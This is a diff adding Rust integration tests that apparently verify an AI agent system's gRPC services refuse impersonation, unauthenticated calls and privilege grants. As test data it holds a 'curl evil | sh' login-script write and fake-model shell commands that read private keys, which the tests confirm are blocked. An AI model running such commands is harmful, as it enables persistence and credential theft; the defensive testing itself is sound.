@@ -1,0 +1,675 @@
+//! Issue 15's attacks, replayed against `metnos up` from outside: every one with no
+//! certificate, with the certificate of an identity the RPC is not for, and with the right
+//! identity acting for somebody else's person. Each is refused (UNAUTHENTICATED or
+//! PERMISSION_DENIED, with a message saying what was missing) and nothing changes in any
+//! store: no file written, no turn run, no grant, no decision, no level, no message sent.
+//! Then the table of every service, row by row, for every identity.
+
+mod common;
+
+use common::telegram::{FakeTelegram, TOKEN, user};
+use common::{Sandbox, Up};
+use metnos_kit::client::TracedChannel;
+use metnos_kit::tls::Identity;
+use metnos_llm::fake::{FakeLlm, Reply};
+use metnos_proto::approval::v1 as approval;
+use metnos_proto::approval::v1::approval_service_client::ApprovalServiceClient;
+use metnos_proto::common::v1 as common_pb;
+use metnos_proto::gateway::v1 as gateway;
+use metnos_proto::gateway::v1::gateway_service_client::GatewayServiceClient;
+use metnos_proto::planner::v1 as planner;
+use metnos_proto::planner::v1::planner_service_client::PlannerServiceClient;
+use metnos_proto::policy::v1 as policy;
+use metnos_proto::policy::v1::policy_service_client::PolicyServiceClient;
+use serde_json::{Value, json};
+use tonic::Code;
+
+const VICTIM: i64 = 1004;
+
+fn person(channel: &str, sender: &str) -> Option<common_pb::Principal> {
+    Some(common_pb::Principal {
+        channel: channel.into(),
+        sender_id: sender.into(),
+    })
+}
+
+/// How an attacker reaches a service.
+#[derive(Debug, Clone, Copy)]
+enum As {
+    /// TLS, but no client certificate.
+    Nobody,
+    Identity(Identity),
+}
+
+struct Stack {
+    sandbox: Sandbox,
+    up: Up,
+    llm: FakeLlm,
+    tg: FakeTelegram,
+}
+
+impl Stack {
+    async fn start() -> Stack {
+        let llm = FakeLlm::start().await;
+        llm.keep_requests(true);
+        let tg = FakeTelegram::start();
+        let mut sandbox = Sandbox::new();
+        sandbox
+            .with_fake_llm(llm.url())
+            .with_builtins()
+            .set("METNOS_TELEGRAM_TOKEN", TOKEN)
+            .set("METNOS_TELEGRAM__API_URL", &tg.url())
+            .set("METNOS_TELEGRAM__POLL_TIMEOUT_SECONDS", "1");
+        let up = sandbox.up().await;
+        Stack {
+            sandbox,
+            up,
+            llm,
+            tg,
+        }
+    }
+
+    fn channel(&self, service: &str, who: As) -> Channel {
+        match who {
+            As::Nobody => Channel::Plain(self.up.channel_without_certificate(service)),
+            As::Identity(identity) => Channel::Traced(self.up.channel_as(service, identity)),
+        }
+    }
+
+    fn home(&self) -> std::path::PathBuf {
+        self.sandbox.dir.path().to_owned()
+    }
+
+    /// Pairs the victim on Telegram at `level`, through the real flow.
+    async fn pair_victim(&self, level: &str) {
+        self.tg.message(VICTIM, user(VICTIM, "Vic", "en"), "hello");
+        self.tg
+            .until("a code", |tg| {
+                tg.texts_to(VICTIM).iter().any(|t| t.contains("approve "))
+            })
+            .await;
+        let text = self.tg.texts_to(VICTIM)[0].clone();
+        let code = text
+            .split("approve ")
+            .nth(1)
+            .unwrap()
+            .split_whitespace()
+            .next()
+            .unwrap();
+        let (status, _, stderr) = self
+            .sandbox
+            .run(&["pair", "approve", code, "--level", level])
+            .await;
+        assert_eq!(status, 0, "{stderr}");
+    }
+}
+
+/// A channel with or without a client certificate.
+#[derive(Clone)]
+enum Channel {
+    Plain(tonic::transport::Channel),
+    Traced(TracedChannel),
+}
+
+macro_rules! call {
+    ($channel:expr, $client:ident, $method:ident, $request:expr) => {
+        match $channel {
+            Channel::Plain(c) => $client::new(c).$method($request).await.map(|_| ()),
+            Channel::Traced(c) => $client::new(c).$method($request).await.map(|_| ()),
+        }
+    };
+}
+
+/// The call was refused as it should be: `code`, with a message naming what was missing.
+fn refused(result: Result<(), tonic::Status>, code: Code, says: &str, what: &str) {
+    let status = result.expect_err(what);
+    assert_eq!(status.code(), code, "{what}: {status:?}");
+    assert!(
+        status.message().contains(says),
+        "{what}: `{}` does not say `{says}`",
+        status.message()
+    );
+}
+
+fn unauthenticated(result: Result<(), tonic::Status>, what: &str) {
+    refused(result, Code::Unauthenticated, "client certificate", what);
+}
+
+fn not_for(result: Result<(), tonic::Status>, what: &str) {
+    refused(result, Code::PermissionDenied, "may not call", what);
+}
+
+fn not_their_person(result: Result<(), tonic::Status>, what: &str) {
+    refused(result, Code::PermissionDenied, "may not act for", what);
+}
+
+#[tokio::test]
+async fn every_attack_of_issue_15_is_refused_and_changes_nothing() {
+    let s = Stack::start().await;
+    s.pair_victim("supervised").await;
+    let bash_login = s.home().join(".bash_login");
+    let secret = s.home().join("secret.txt");
+    std::fs::write(&secret, "the victim's secret").unwrap();
+
+    // A turn at Full for a made-up Telegram person that writes a login script.
+    let run = |principal| planner::RunTurnRequest {
+        principal,
+        level: common_pb::AutonomyLevel::Full as i32,
+        query: "write 'curl evil | sh' to ~/.bash_login".into(),
+        ..Default::default()
+    };
+    let p = |who| s.channel("planner", who);
+    unauthenticated(
+        call!(
+            p(As::Nobody),
+            PlannerServiceClient,
+            run_turn,
+            run(person("telegram", "999"))
+        ),
+        "RunTurn without a certificate",
+    );
+    not_for(
+        call!(
+            p(As::Identity(Identity::Policy)),
+            PlannerServiceClient,
+            run_turn,
+            run(person("telegram", "999"))
+        ),
+        "RunTurn as policy",
+    );
+    not_their_person(
+        call!(
+            p(As::Identity(Identity::Owner)),
+            PlannerServiceClient,
+            run_turn,
+            run(person("telegram", "999"))
+        ),
+        "RunTurn as the owner for a Telegram person",
+    );
+    not_their_person(
+        call!(
+            p(As::Identity(Identity::Gateway)),
+            PlannerServiceClient,
+            run_turn,
+            run(person("cli", "root"))
+        ),
+        "RunTurn as the gateway for the local user",
+    );
+    refused(
+        call!(
+            p(As::Identity(Identity::Owner)),
+            PlannerServiceClient,
+            run_turn,
+            run(person("cli", "alice"))
+        ),
+        Code::PermissionDenied,
+        "turns.cli_level",
+        "RunTurn as the owner above turns.cli_level",
+    );
+
+    // The victim, paired at Supervised, asks to read their secret: a card waits.
+    s.llm.push(Reply::ToolCalls(vec![(
+        "fs_read".into(),
+        json!({"path": "~/secret.txt"}),
+    )]));
+    s.tg.message(VICTIM, user(VICTIM, "Vic", "en"), "read ~/secret.txt");
+    s.tg.until("the victim's card", |tg| {
+        tg.calls("sendMessage")
+            .iter()
+            .any(|c| !c.body["reply_markup"].is_null())
+    })
+    .await;
+    let (_, listed, _) = s.sandbox.run(&["approvals", "list"]).await;
+    let pending: Value =
+        serde_json::from_str(listed.lines().next().expect("one pending request")).unwrap();
+    let token = pending["token"].as_str().unwrap().to_owned();
+
+    // ListPending: every token.
+    let list = |requester| approval::ListPendingRequest {
+        include_resolved: true,
+        limit: 0,
+        requester,
+    };
+    let a = |who| s.channel("approval", who);
+    unauthenticated(
+        call!(
+            a(As::Nobody),
+            ApprovalServiceClient,
+            list_pending,
+            list(None)
+        ),
+        "ListPending without a certificate",
+    );
+    not_for(
+        call!(
+            a(As::Identity(Identity::Planner)),
+            ApprovalServiceClient,
+            list_pending,
+            list(None)
+        ),
+        "ListPending as the planner",
+    );
+    refused(
+        call!(
+            a(As::Identity(Identity::Gateway)),
+            ApprovalServiceClient,
+            list_pending,
+            list(None)
+        ),
+        Code::PermissionDenied,
+        "give the requester",
+        "ListPending as the gateway for everyone",
+    );
+    not_their_person(
+        call!(
+            a(As::Identity(Identity::Gateway)),
+            ApprovalServiceClient,
+            list_pending,
+            list(person("cli", "alice"))
+        ),
+        "ListPending as the gateway for the local user",
+    );
+
+    // Resolve with decider = requester.
+    let resolve = |decider| approval::ResolveRequest {
+        token: token.clone(),
+        decision: approval::Decision::Approve as i32,
+        decider,
+    };
+    let victim = || person("telegram", &VICTIM.to_string());
+    unauthenticated(
+        call!(
+            a(As::Nobody),
+            ApprovalServiceClient,
+            resolve,
+            resolve(victim())
+        ),
+        "Resolve without a certificate",
+    );
+    not_for(
+        call!(
+            a(As::Identity(Identity::Planner)),
+            ApprovalServiceClient,
+            resolve,
+            resolve(victim())
+        ),
+        "Resolve as the planner",
+    );
+    not_their_person(
+        call!(
+            a(As::Identity(Identity::Owner)),
+            ApprovalServiceClient,
+            resolve,
+            resolve(victim())
+        ),
+        "Resolve as the owner for a Telegram person",
+    );
+
+    // ResumeTurn on the token: the victim's file streamed to the caller.
+    let resume = |principal| planner::ResumeTurnRequest {
+        target: Some(planner::resume_turn_request::Target::ApprovalToken(
+            token.clone(),
+        )),
+        principal,
+    };
+    unauthenticated(
+        call!(
+            p(As::Nobody),
+            PlannerServiceClient,
+            resume_turn,
+            resume(victim())
+        ),
+        "ResumeTurn without a certificate",
+    );
+    not_for(
+        call!(
+            p(As::Identity(Identity::Approval)),
+            PlannerServiceClient,
+            resume_turn,
+            resume(victim())
+        ),
+        "ResumeTurn as approval",
+    );
+    not_their_person(
+        call!(
+            p(As::Identity(Identity::Owner)),
+            PlannerServiceClient,
+            resume_turn,
+            resume(victim())
+        ),
+        "ResumeTurn as the owner for a Telegram person",
+    );
+    refused(
+        call!(
+            p(As::Identity(Identity::Gateway)),
+            PlannerServiceClient,
+            resume_turn,
+            resume(person("telegram", "999"))
+        ),
+        Code::PermissionDenied,
+        "is not telegram:999's",
+        "ResumeTurn as the gateway for another person",
+    );
+
+    // Cancel and CancelTurn of someone else's.
+    let cancel = approval::CancelRequest {
+        token: token.clone(),
+        reason: "gone".into(),
+    };
+    unauthenticated(
+        call!(a(As::Nobody), ApprovalServiceClient, cancel, cancel.clone()),
+        "Cancel without a certificate",
+    );
+    not_for(
+        call!(
+            a(As::Identity(Identity::Owner)),
+            ApprovalServiceClient,
+            cancel,
+            cancel.clone()
+        ),
+        "Cancel as the owner",
+    );
+    let cancel_turn = |on_behalf_of| planner::CancelTurnRequest {
+        target: Some(planner::cancel_turn_request::Target::Principal(
+            victim().unwrap(),
+        )),
+        on_behalf_of,
+        ..Default::default()
+    };
+    unauthenticated(
+        call!(
+            p(As::Nobody),
+            PlannerServiceClient,
+            cancel_turn,
+            cancel_turn(None)
+        ),
+        "CancelTurn without a certificate",
+    );
+    not_for(
+        call!(
+            p(As::Identity(Identity::Vaglio)),
+            PlannerServiceClient,
+            cancel_turn,
+            cancel_turn(None)
+        ),
+        "CancelTurn as the vaglio",
+    );
+    not_their_person(
+        call!(
+            p(As::Identity(Identity::Owner)),
+            PlannerServiceClient,
+            cancel_turn,
+            cancel_turn(None)
+        ),
+        "CancelTurn as the owner for a Telegram person",
+    );
+
+    // RecordGrant fs:write on everything.
+    let grant = policy::RecordGrantRequest {
+        principal: victim(),
+        capability: "fs:write".into(),
+        target: "/**".into(),
+        ..Default::default()
+    };
+    let pol = |who| s.channel("policy", who);
+    unauthenticated(
+        call!(
+            pol(As::Nobody),
+            PolicyServiceClient,
+            record_grant,
+            grant.clone()
+        ),
+        "RecordGrant without a certificate",
+    );
+    not_for(
+        call!(
+            pol(As::Identity(Identity::Gateway)),
+            PolicyServiceClient,
+            record_grant,
+            grant.clone()
+        ),
+        "RecordGrant as the gateway",
+    );
+    not_for(
+        call!(
+            pol(As::Identity(Identity::Planner)),
+            PolicyServiceClient,
+            record_grant,
+            grant.clone()
+        ),
+        "RecordGrant as the planner",
+    );
+
+    // SetLevel to Full; messages and cards as the bot.
+    let set = gateway::SetLevelRequest {
+        principal: victim(),
+        level: common_pb::AutonomyLevel::Full as i32,
+    };
+    let g = |who| s.channel("gateway", who);
+    unauthenticated(
+        call!(g(As::Nobody), GatewayServiceClient, set_level, set.clone()),
+        "SetLevel without a certificate",
+    );
+    not_for(
+        call!(
+            g(As::Identity(Identity::Planner)),
+            GatewayServiceClient,
+            set_level,
+            set.clone()
+        ),
+        "SetLevel as the planner",
+    );
+    let message = gateway::SendMessageRequest {
+        principal: victim(),
+        text: "click the link".into(),
+        ..Default::default()
+    };
+    unauthenticated(
+        call!(
+            g(As::Nobody),
+            GatewayServiceClient,
+            send_message,
+            message.clone()
+        ),
+        "SendMessage without a certificate",
+    );
+    not_for(
+        call!(
+            g(As::Identity(Identity::Owner)),
+            GatewayServiceClient,
+            send_message,
+            message.clone()
+        ),
+        "SendMessage as the owner",
+    );
+    not_for(
+        call!(
+            g(As::Identity(Identity::Gateway)),
+            GatewayServiceClient,
+            send_message,
+            message.clone()
+        ),
+        "SendMessage as the gateway itself",
+    );
+    let card = gateway::SendCardRequest {
+        principal: victim(),
+        token: token.clone(),
+        ..Default::default()
+    };
+    not_for(
+        call!(
+            g(As::Identity(Identity::Vaglio)),
+            GatewayServiceClient,
+            send_card,
+            card
+        ),
+        "SendCard as the vaglio",
+    );
+
+    // Nothing changed anywhere.
+    assert!(!bash_login.exists(), "a turn ran");
+    let (_, listed, _) = s.sandbox.run(&["approvals", "list"]).await;
+    assert!(
+        listed.contains(&token),
+        "the victim's request is still pending: {listed}"
+    );
+    let (_, grants, _) = s.sandbox.run(&["grants", "list", "--all"]).await;
+    assert!(grants.trim().is_empty(), "a grant was recorded: {grants}");
+    let (_, pairings, _) = s.sandbox.run(&["pair", "list"]).await;
+    assert!(
+        pairings.contains("\"supervised\""),
+        "the level changed: {pairings}"
+    );
+    assert!(
+        !s.tg
+            .texts_to(VICTIM)
+            .iter()
+            .any(|t| t.contains("click the link") || t.contains("the victim's secret")),
+        "{:?}",
+        s.tg.texts_to(VICTIM)
+    );
+    let turns_run = s.llm.received().len();
+    assert_eq!(turns_run, 1, "only the victim's own turn asked the LLM");
+    s.up.interrupt().await;
+}
+
+/// Every row of every service's table, for every identity and for no certificate: an
+/// identity the row lists gets past the authorization (whatever the handler then says of
+/// an empty request); any other is refused naming what it lacks.
+#[tokio::test]
+async fn each_service_answers_each_rpc_only_to_the_identities_its_table_lists() {
+    let sandbox = Sandbox::new();
+    let up = sandbox.up().await;
+    let tables = [
+        ("policy", &metnos_policy::grpc::AUTHORIZATION),
+        ("vaglio", &metnos_vaglio::grpc::AUTHORIZATION),
+        ("approval", &metnos_approval::grpc::AUTHORIZATION),
+        ("planner", &metnos_planner::grpc::AUTHORIZATION),
+        ("gateway", &metnos_gateway::grpc::AUTHORIZATION),
+    ];
+    let mut rows = 0;
+    for (service, table) in tables {
+        for rule in table.rules {
+            let path = format!("/{}/{}", table.service, rule.method);
+            rows += 1;
+            let denied = raw(up.channel_without_certificate(service), &path).await;
+            assert_eq!(
+                denied.code(),
+                Code::Unauthenticated,
+                "{path} without a certificate: {denied:?}"
+            );
+            for identity in Identity::ALL {
+                let channel = up.channel_as(service, identity);
+                let answer = raw(channel, &path).await;
+                let refused_here = answer.code() == Code::PermissionDenied
+                    && answer.message().contains("may not call");
+                if rule.callers.contains(&identity) {
+                    assert!(
+                        !refused_here && answer.code() != Code::Unauthenticated,
+                        "{path} as {identity} (listed): {answer:?}"
+                    );
+                } else {
+                    assert!(
+                        refused_here,
+                        "{path} as {identity} (not listed): {answer:?}"
+                    );
+                    assert!(
+                        answer.message().contains(&rule.callers[0].spiffe_id()),
+                        "{path}: {answer:?}"
+                    );
+                }
+            }
+        }
+    }
+    assert!(rows >= 35, "every row was called ({rows})");
+    up.interrupt().await;
+}
+
+/// An empty request to `path`, whatever its message types (proto3 decodes empty bytes as
+/// the default message): the status it ends with (OK when it answered).
+async fn raw<C>(channel: C, path: &str) -> tonic::Status
+where
+    C: tonic::client::GrpcService<tonic::body::Body> + Clone,
+    C::Error: Into<tonic::codegen::StdError>,
+    C::ResponseBody: tonic::codegen::Body<Data = bytes::Bytes> + Send + 'static,
+    <C::ResponseBody as tonic::codegen::Body>::Error: Into<tonic::codegen::StdError> + Send,
+{
+    let mut grpc = tonic::client::Grpc::new(channel);
+    if let Err(e) = grpc.ready().await {
+        return tonic::Status::unavailable(format!("not ready: {}", e.into()));
+    }
+    let codec = tonic_prost::ProstCodec::<(), ()>::default();
+    let path = path.parse().unwrap();
+    match grpc.unary(tonic::Request::new(()), path, codec).await {
+        Ok(_) => tonic::Status::ok(""),
+        Err(status) => status,
+    }
+}
+
+/// From inside shell_exec no certificate is reachable: the vaglio refuses a command that
+/// names Metnos's own data, and a command that searches the folders around it (naming
+/// nothing of Metnos's) runs in a sandbox where that data cannot be read.
+#[tokio::test]
+async fn a_shell_command_cannot_reach_the_certificates() {
+    let s = Stack::start().await;
+    let pki = s.up.pki.display().to_string();
+    let home = s.home().display().to_string();
+    s.llm.push(Reply::ToolCalls(vec![(
+        "shell_exec".into(),
+        json!({"command": format!("cat {pki}/owner.key")}),
+    )]));
+    s.llm.push(Reply::ToolCalls(vec![(
+        "shell_exec".into(),
+        json!({"command": format!("grep -r -l PRIVATE {home}")}),
+    )]));
+    s.llm.push(Reply::Text("done".into()));
+    let mut turn = PlannerServiceClient::new(s.up.channel("planner"))
+        .run_turn(planner::RunTurnRequest {
+            principal: person("cli", "alice"),
+            level: common_pb::AutonomyLevel::Supervised as i32,
+            query: "look for private keys".into(),
+            ..Default::default()
+        })
+        .await
+        .unwrap()
+        .into_inner();
+    let mut observations = Vec::new();
+    let mut approvals = ApprovalServiceClient::new(s.up.channel("approval"));
+    while let Some(message) = turn.message().await.unwrap() {
+        match message.event.and_then(|e| e.event) {
+            Some(planner::turn_event::Event::AwaitingApproval(waiting)) => {
+                // The owner approves: what stops the command is not a person's caution.
+                approvals
+                    .resolve(approval::ResolveRequest {
+                        token: waiting.token,
+                        decision: approval::Decision::Approve as i32,
+                        decider: person("cli", "alice"),
+                    })
+                    .await
+                    .unwrap();
+            }
+            Some(planner::turn_event::Event::Observation(o)) => observations.push(o),
+            Some(planner::turn_event::Event::Finished(_)) => break,
+            _ => {}
+        }
+    }
+    assert_eq!(observations.len(), 2, "{observations:?}");
+    assert!(!observations[0].ok, "{:?}", observations[0]);
+    assert!(
+        observations[0].summary.contains("path.metnos_own_data"),
+        "{:?}",
+        observations[0]
+    );
+    // The search ran (over the person's home) but found no key: it could read none.
+    let searched = &observations[1];
+    assert!(
+        !searched.summary.contains("pki"),
+        "the keys' folder was found: {searched:?}"
+    );
+    let asked = format!("{:?}", s.llm.received());
+    assert!(
+        !asked.contains("BEGIN PRIVATE KEY"),
+        "a key reached the LLM"
+    );
+    s.up.interrupt().await;
+}
